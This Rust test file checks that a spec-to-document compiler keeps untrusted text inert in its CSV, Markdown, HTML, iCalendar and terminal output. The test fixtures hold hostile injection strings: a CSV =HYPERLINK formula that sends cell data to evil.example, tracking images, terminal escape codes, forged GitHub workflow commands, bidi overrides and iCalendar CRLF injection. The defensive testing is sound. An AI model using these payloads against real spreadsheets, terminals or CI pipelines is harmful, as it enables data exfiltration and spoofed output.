//! Untrusted spec text stays text in every output format: CSV cells are never formulas,
//! Markdown (read by a real CommonMark/GFM parser) gains no image, link, heading, raw HTML,
//! emphasis or table cell and pings no one, the terminal gets no control character and no
//! line that GitHub Actions would run as a workflow command, iCalendar gains no property or
//! event, HTML isolates bidi controls, and the diff's Markdown fits a GitHub comment.

use std::fs;
use std::path::Path;

use chrono::NaiveDate;
use orderly::Limits;
use orderly::compile::{checklist, diff, timeline};
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use crate::support::{example_spec, orderly, repo, tree};

const AS_OF: &str = "2026-06-01";
const INSTRUMENT: &str = "spec/city-ordinance-12";

/// An action that tries every Markdown and terminal trick at once (YAML double-quoted).
const ACTION: &str = r#""Survey ![](https://tracker.example/p.png) cc @octocat [linkx](https://evil.example/x) *emx1* _emx2_ ~~emx3~~ `codex` <b>rawx</b> <img src=x> \\*pre\\* www.evil.example https://auto.example/x $mathx$ #12 \e]0;PWNED\a\e[2J\e[31mred\u202e\n\n## Forged heading\n::add-mask::secret\n- listx | cellx | cellx\n    indentx""#;

/// The example spec with hostile text in every kind of field that reaches an output.
fn hostile_spec() -> tempfile::TempDir {
    let dir = example_spec(None);
    let spec = dir.path().join("spec");
    let edit = |path: &str, pairs: &[(&str, &str)]| {
        let path = spec.join(path);
        let mut text = fs::read_to_string(&path).unwrap();
        for (from, to) in pairs {
            assert!(text.contains(from), "{from}");
            text = text.replacen(from, to, 1);
        }
        fs::write(path, text).unwrap();
    };
    edit(
        "city-ordinance-12/adopted/sec-2.yaml",
        &[
            (
                "    ref: \"2(a)\"\n",
                "    ref: \"2(a) | forged | cells\"\n    heading: \"=HYPERLINK(\\\"https://evil.example/?d=\\\"&A1,\\\"Click\\\")\"\n",
            ),
            ("Survey every park and count its shade trees.", ACTION),
            (
                "The survey report was filed with the clerk.",
                "\"The survey report was filed \\u202e.deifirev ton\"",
            ),
            (
                "Report each year on the trees planted.",
                "\"::warning file=README.md,line=1::forged\"",
            ),
        ],
    );
    edit(
        "city-ordinance-12/instrument.yaml",
        &[
            (
                "url: https://example.org/gazette/2026-04-20/ordinance-12",
                "url: \"https://example.org/a)![](https://tracker.example/url.png\"",
            ),
            (
                "title: City Gazette, Ordinance 12 as adopted",
                "title: \"Gazette](https://evil.example/title) *emx4*\"",
            ),
            (
                "short_title: Shade Tree Ordinance",
                "short_title: \"Shade\\r\\n# Forged title @octocat\"",
            ),
        ],
    );
    edit(
        "actors.yaml",
        &[(
            "name: Department of Parks",
            "name: \"-1+1 @octocat <img src=x>\"",
        )],
    );
    dir
}

/// Whether a site file is an HTML page.
fn is_page(file: &str) -> bool {
    Path::new(file)
        .extension()
        .is_some_and(|e| e.eq_ignore_ascii_case("html"))
}

fn run_ok(cwd: &Path, args: &[&str]) -> String {
    let run = orderly(cwd, args);
    assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
    run.stdout
}

fn adopted(cwd: &Path, command: &str, format: &str) -> String {
    run_ok(
        cwd,
        &[
            command,
            INSTRUMENT,
            "--version",
            "adopted",
            "--as-of",
            AS_OF,
            "--format",
            format,
        ],
    )
}

/// No control character but line breaks, and no bidi control, reaches the output raw; and no
/// line is a GitHub workflow command.
fn assert_no_controls_or_commands(name: &str, text: &str) {
    for c in text.chars() {
        assert!(
            c == '\n'
                || !(c.is_control()
                    || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')),
            "{name}: raw U+{:04X}",
            u32::from(c)
        );
    }
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with("::"),
            "{name}: workflow command {line:?}"
        );
    }
}

#[test]
fn csv_cells_are_never_formulas() {
    let dir = hostile_spec();
    let check = |name: &str, bytes: &[u8]| {
        let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
        let mut reader = csv::Reader::from_reader(bytes);
        let mut headings = Vec::new();
        for record in reader.records() {
            let record = record.unwrap();
            headings.push(record[2].to_owned());
            for cell in &record {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name}: formula cell {cell:?}"
                );
            }
        }
        assert!(
            headings.contains(&"'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")".to_owned()),
            "{name}: {headings:?}"
        );
    };
    let cli = orderly(
        dir.path(),
        &[
            "checklist",
            INSTRUMENT,
            "--version",
            "adopted",
            "--as-of",
            AS_OF,
            "--format",
            "csv",
        ],
    );
    assert_eq!(cli.code, 0, "{}", cli.stderr);
    check("cli", cli.stdout.as_bytes());
    run_ok(
        dir.path(),
        &["build", "spec", "-o", "site", "--as-of", AS_OF],
    );
    let site = fs::read(
        dir.path()
            .join("site/city-ordinance-12/adopted/checklist.csv"),
    )
    .unwrap();
    check("site", &site);
}

/// Raw HTML the Markdown templates write themselves.
const TEMPLATE_HTML: &[&str] = &[
    "<details>",
    "</details>",
    "<summary>",
    "</summary>",
    "<code>",
    "</code>",
    "<del>",
    "</del>",
    "<ins>",
    "</ins>",
];

/// Parses Markdown as GitHub does (tables, strike-through, task lists, footnotes, math) and
/// asserts that nothing in it is markup that came from the spec.
fn assert_markdown_inert(name: &str, text: &str) {
    assert_no_controls_or_commands(name, text);
    for needle in ["https://auto.example", "www.evil.example", "@octocat"] {
        assert!(
            !text.contains(needle),
            "{name}: autolink or mention {needle:?}"
        );
    }
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_MATH
        | Options::ENABLE_GFM;
    // What encloses the current event: headings, emphasis and the like, with their text.
    let mut open: Vec<(Tag<'_>, String)> = Vec::new();
    let mut row_cells = 0;
    let mut table_width = None;
    for event in Parser::new_ext(text, options) {
        match event {
            Event::Start(tag) => {
                match &tag {
                    Tag::Image { dest_url, .. } => panic!("{name}: image {dest_url}"),
                    Tag::Link { dest_url, .. } => {
                        assert!(
                            !dest_url.contains("evil.example")
                                && !dest_url.starts_with("https://tracker")
                                && !dest_url.contains([' ', '(', ')']),
                            "{name}: link to {dest_url}"
                        );
                    }
                    Tag::Table(columns) => table_width = Some(columns.len()),
                    Tag::TableHead | Tag::TableRow => row_cells = 0,
                    Tag::TableCell => row_cells += 1,
                    _ => {}
                }
                open.push((tag, String::new()));
            }
            Event::End(end) => {
                let (tag, inside) = open.pop().unwrap();
                let marked = match tag {
                    // Spec text may sit in a template's heading; it must not start one.
                    Tag::Heading { .. } => inside.starts_with("Forged"),
                    Tag::Emphasis | Tag::Strong | Tag::Strikethrough => inside.contains("emx"),
                    Tag::Item => inside.starts_with("listx"),
                    Tag::CodeBlock(_) => inside.contains("indentx"),
                    _ => false,
                };
                assert!(!marked, "{name}: {tag:?} from spec text: {inside:?}");
                if matches!(end, TagEnd::TableHead | TagEnd::TableRow) {
                    assert_eq!(Some(row_cells), table_width, "{name}: a row's cells");
                }
                if let Some((_, outer)) = open.last_mut() {
                    outer.push_str(&inside);
                }
            }
            Event::Code(code) => {
                assert!(!code.contains("codex"), "{name}: code span {code}");
                if let Some((_, inside)) = open.last_mut() {
                    inside.push_str(&code);
                }
            }
            Event::Text(t) => {
                if let Some((_, inside)) = open.last_mut() {
                    inside.push_str(&t);
                }
            }
            Event::Html(html) | Event::InlineHtml(html) => {
                let mut rest = html.to_string();
                for tag in TEMPLATE_HTML {
                    rest = rest.replace(tag, "");
                }
                assert!(!rest.contains('<'), "{name}: raw HTML {html:?}");
            }
            Event::InlineMath(m) | Event::DisplayMath(m) => panic!("{name}: math {m}"),
            Event::FootnoteReference(f) => panic!("{name}: footnote {f}"),
            _ => {}
        }
    }
}

#[test]
fn markdown_from_hostile_text_is_inert() {
    let dir = hostile_spec();
    let checklist = adopted(dir.path(), "checklist", "md");
    assert_markdown_inert("checklist.md", &checklist);
    // The text is still there, as text: backslashes as in the source, `@` unlinked.
    for shown in [
        "&#92;&#42;pre&#92;&#42;",
        "@\u{200B}octocat",
        "2(a) &#124; forged",
    ] {
        assert!(checklist.contains(shown), "checklist.md lacks {shown:?}");
    }
    assert!(
        checklist.contains("(https://example.org/a%29!%5B%5D%28https://tracker.example/url.png)")
    );
    assert_markdown_inert("timeline.md", &adopted(dir.path(), "timeline", "md"));
    let diff = run_ok(
        dir.path(),
        &[
            "diff", INSTRUMENT, "--from", "proposed", "--to", "adopted", "--format", "md",
        ],
    );
    assert_markdown_inert("diff.md", &diff);
    assert!(diff.contains("<ins>"), "the redline shows the change");
}

#[test]
fn mermaid_and_diagnostics_print_no_controls_or_commands() {
    let dir = hostile_spec();
    assert_no_controls_or_commands("mermaid", &adopted(dir.path(), "timeline", "mermaid"));

    let sec = dir.path().join("spec/city-ordinance-12/adopted/sec-2.yaml");
    let text = fs::read_to_string(&sec).unwrap().replacen(
        "    modality: shall\n",
        "    modality: \"\\e]0;PWNED\\a\\e[2J\\e[31mred\\u202e\"\n    \"x\\n::warning file=README.md,line=1::forged\\n::add-mask::Survey\": 1\n",
        1,
    );
    fs::write(&sec, text).unwrap();
    fs::write(
        dir.path()
            .join("spec/city-ordinance-12/adopted/sec-9\n::error::x\u{1b}[31m.yaml"),
        "provisions: [",
    )
    .unwrap();
    for format in ["human", "concise"] {
        let run = orderly(
            dir.path(),
            &["check", "spec", "--format", format, "--color", "never"],
        );
        assert_eq!(run.code, 1, "{}", run.stdout);
        for code in ["invalid-value", "unknown-field", "yaml-syntax"] {
            assert!(
                run.stdout.contains(code),
                "{format}: no {code}:\n{}",
                run.stdout
            );
        }
        assert!(
            run.stdout.contains("\\u{1b}]0;PWNED\\u{7}"),
            "{}",
            run.stdout
        );
        assert_no_controls_or_commands(format, &run.stdout);
    }
    // The workflow commands orderly itself prints: one per line, each its own, no raw control.
    let run = orderly(dir.path(), &["check", "spec", "--format", "github"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    for c in run.stdout.chars() {
        assert!(
            c == '\n' || !c.is_control(),
            "github: raw U+{:04X}",
            u32::from(c)
        );
    }
    for line in run.stdout.lines() {
        assert!(
            line.starts_with("::error ")
                || line.starts_with("::warning ")
                || line.starts_with("::notice "),
            "github: {line:?}"
        );
    }
    assert!(run.stdout.contains("\\u{1b}"), "{}", run.stdout);
}

#[test]
fn icalendar_properties_cannot_be_injected() {
    let dir = example_spec(None);
    let workspace = orderly::load(&dir.path().join("spec"), &Limits::default());
    let spec = &workspace.spec;
    let instrument = &spec.instruments[0];
    let version = instrument
        .versions
        .iter()
        .find(|v| v.id == "adopted")
        .unwrap();
    let as_of = NaiveDate::from_ymd_opt(2026, 6, 1).unwrap();
    let list = checklist::build(spec, instrument, version, &[], as_of).unwrap();
    let mut line = timeline::build(&list);
    let forged = "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:INJECTED\r\nDTSTART;VALUE=DATE:20300101";
    line.instrument.id = forged.to_owned();
    line.instrument.short_title = forged.to_owned();
    let mut dated = 0;
    for event in &mut line.events {
        for item in &mut event.items {
            item.id = forged.to_owned();
            item.reference = forged.to_owned();
            item.action = format!("{forged}\rBEGIN:VALARM\u{b}");
            dated += 1;
        }
    }
    assert!(dated > 0);
    let text = orderly::render::ics::calendar(&line).unwrap();
    for physical in text.split("\r\n") {
        assert!(
            !physical.contains(['\r', '\n']),
            "bare line break in {physical:?}"
        );
        for forged in [
            "UID:evil",
            "SUMMARY:INJECTED",
            "DTSTART;VALUE=DATE:2030",
            "BEGIN:VALARM",
        ] {
            assert!(
                !physical.starts_with(forged),
                "forged property {physical:?}"
            );
        }
    }
    let calendar: icalendar::Calendar = text.parse().expect("valid iCalendar");
    let events = calendar
        .components
        .iter()
        .filter(|c| matches!(c, icalendar::CalendarComponent::Event(_)))
        .count();
    assert_eq!(events, dated);
}

#[test]
fn a_timeline_with_nothing_dated_has_no_calendar() {
    let dir = example_spec(None);
    let run = orderly(
        dir.path(),
        &[
            "timeline",
            INSTRUMENT,
            "--version",
            "proposed",
            "--format",
            "ics",
        ],
    );
    assert_eq!(run.code, 2, "{}", run.stdout);
    assert!(run.stdout.is_empty());
    assert!(run.stderr.contains("no dated deadlines"), "{}", run.stderr);

    run_ok(
        dir.path(),
        &["build", "spec", "-o", "site", "--as-of", AS_OF],
    );
    let site = dir.path().join("site");
    let files = tree(&site);
    assert!(files.contains(&"city-ordinance-12/adopted/timeline.ics".to_owned()));
    assert!(!files.contains(&"city-ordinance-12/proposed/timeline.ics".to_owned()));
    for file in files.iter().filter(|f| is_page(f)) {
        let html = fs::read_to_string(site.join(file)).unwrap();
        let links = html.contains("href=\"timeline.ics\"");
        if file.starts_with("city-ordinance-12/proposed/") {
            assert!(!links, "{file} links a calendar that does not exist");
        } else if file.starts_with("city-ordinance-12/adopted/timeline") {
            assert!(links, "{file} does not link its calendar");
        }
    }
    let page = fs::read_to_string(site.join("city-ordinance-12/proposed/timeline.html")).unwrap();
    assert!(page.contains("there is no calendar"));
    let calendar = fs::read_to_string(site.join("city-ordinance-12/adopted/timeline.ics")).unwrap();
    let _: icalendar::Calendar = calendar.parse().expect("valid iCalendar");
}

/// Asserts that every bidi embedding or override in `text` is opened inside an isolate and
/// closed before it, and that every isolate is closed: no value can reorder what follows it.
fn assert_bidi_isolated(name: &str, text: &str) {
    let mut open: Vec<char> = Vec::new();
    for c in text.chars() {
        match c {
            '\u{202A}' | '\u{202B}' | '\u{202D}' | '\u{202E}' => {
                assert!(
                    open.contains(&'\u{2068}'),
                    "{name}: U+{:04X} outside an isolate",
                    u32::from(c)
                );
                open.push(c);
            }
            '\u{2066}'..='\u{2068}' => open.push(c),
            '\u{202C}' => {
                let top = open.pop();
                assert!(
                    matches!(top, Some('\u{202A}'..='\u{202E}')),
                    "{name}: stray PDF"
                );
            }
            '\u{2069}' => {
                let top = open.pop();
                assert!(
                    matches!(top, Some('\u{2066}'..='\u{2068}')),
                    "{name}: unbalanced PDI"
                );
            }
            _ => {}
        }
    }
    assert!(open.is_empty(), "{name}: left open: {open:?}");
}

#[test]
fn html_isolates_bidi_controls() {
    let dir = hostile_spec();
    let page = adopted(dir.path(), "checklist", "html");
    assert!(page.contains('\u{202E}'), "the text keeps its characters");
    assert_bidi_isolated("checklist.html", &page);
    assert_bidi_isolated("timeline.html", &adopted(dir.path(), "timeline", "html"));
    run_ok(
        dir.path(),
        &["build", "spec", "-o", "site", "--as-of", AS_OF],
    );
    let site = dir.path().join("site");
    for file in tree(&site).iter().filter(|f| is_page(f)) {
        assert_bidi_isolated(file, &fs::read_to_string(site.join(file)).unwrap());
    }
}

#[test]
fn diff_markdown_fits_a_github_comment() {
    let workspace = orderly::load(&repo().join("spec"), &Limits::default());
    let spec = &workspace.spec;
    let instrument = spec
        .instruments
        .iter()
        .find(|i| i.id == "eo-14409")
        .unwrap();
    let version = |id: &str| instrument.versions.iter().find(|v| v.id == id).unwrap();
    let mut d = diff::diff(
        &spec.actors,
        (instrument, version("draft")),
        (instrument, version("signed")),
    );
    let whole = orderly::render::render("diff.md", &d).unwrap();
    assert!(!whole.contains("left out"), "the shipped diff fits whole");
    let changes = d.changes.clone();
    for _ in 0..20 {
        d.changes.extend(changes.iter().cloned());
    }
    let total = d.changes.len();
    let text = orderly::render::render("diff.md", &d).unwrap();
    let width = text.encode_utf16().count();
    assert!(width <= 65_536, "{width} characters");
    assert!(width > 40_000, "as much as fits is kept ({width})");
    assert!(
        text.contains(&format!("of {total} changes are left out")),
        "{text}"
    );
    assert!(text.contains("--format html"));
    // What is not a change (terms, a long title) is held to the budget too.
    let terms = d.terms.clone();
    for _ in 0..2000 {
        d.terms.extend(terms.iter().cloned());
    }
    d.changes.truncate(3);
    let text = orderly::render::render("diff.md", &d).unwrap();
    let width = text.encode_utf16().count();
    assert!(
        width <= orderly::render::markdown::DIFF_BUDGET,
        "{width} characters"
    );
    assert!(text.contains("This report is cut"), "{text}");
}

#[test]
fn tool_errors_show_control_characters_in_paths() {
    let dir = example_spec(None);
    let run = orderly(
        dir.path(),
        &["checklist", "no\u{1b}]0;PWNED\u{7}\n::warning::x"],
    );
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert_no_controls_or_commands("tool error", &run.stderr);
    assert!(run.stderr.contains("\\u{1b}]0;PWNED"), "{}", run.stderr);
}
